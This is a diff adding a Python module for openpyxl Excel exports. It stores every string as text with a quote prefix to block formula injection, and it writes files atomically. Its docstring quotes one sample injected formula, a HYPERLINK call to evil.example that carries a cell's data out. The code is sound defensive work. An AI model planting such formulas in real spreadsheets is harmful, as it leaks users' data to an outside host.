@@ -1,0 +1,58 @@
+"""Writing Excel exports. Every openpyxl export appends its rows with `append_row` and saves with `save`:
+
+- text is stored as text. openpyxl turns any string starting with "=" into a live formula, so an employer named
+  `=HYPERLINK("http://evil.example/?"&C2,"点击")` in a county's upload would become a working link, carrying the
+  row's data, in the prefecture's export;
+- a file on disk is written whole or not at all (a temporary file beside it, renamed at the end)."""
+
+from __future__ import annotations
+
+import os
+import secrets
+from collections.abc import Iterable
+from pathlib import Path
+from typing import IO, Any
+
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.workbook import Workbook
+
+from engine.validation import DataInvalid
+
+# What spreadsheet programs read as the start of a formula when someone edits the cell.
+_FORMULA_START = ("=", "+", "-", "@")
+
+
+def text_cell(sheet: Any, value: str) -> Any:
+    """A cell holding `value` as text, in write-only and normal worksheets alike."""
+    # Control characters are not allowed in the file's XML: openpyxl would refuse the whole export.
+    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
+    cell.data_type = "s"
+    if value.startswith(_FORMULA_START):
+        cell.quotePrefix = True  # Excel keeps it text even after the cell is edited
+    return cell
+
+
+def append_row(sheet: Any, values: Iterable[Any]) -> None:
+    """`sheet.append(values)` with every string stored as text (numbers, dates and None as they are)."""
+    sheet.append([text_cell(sheet, v) if isinstance(v, str) else v for v in values])
+
+
+def save(workbook: Workbook, target: str | os.PathLike[str] | IO[bytes]) -> None:
+    """Save to a stream, or to a path through a temporary file in the same directory renamed over it at the end: a
+    failed export leaves no half-written file and an existing file as it was. DataInvalid names a directory that
+    is missing or not writable."""
+    if not isinstance(target, (str, os.PathLike)):
+        workbook.save(target)
+        return
+    path = Path(target)
+    temporary = path.with_name(f".{path.name}.{secrets.token_hex(4)}.part")
+    try:
+        with open(temporary, "xb") as stream:
+            workbook.save(stream)
+        os.replace(temporary, path)
+    except BaseException as exc:
+        temporary.unlink(missing_ok=True)
+        if isinstance(exc, OSError):
+            raise DataInvalid({"path": f"无法写入 {path}：{exc.strerror or exc}"}, "导出文件无法写入") from exc
+        raise
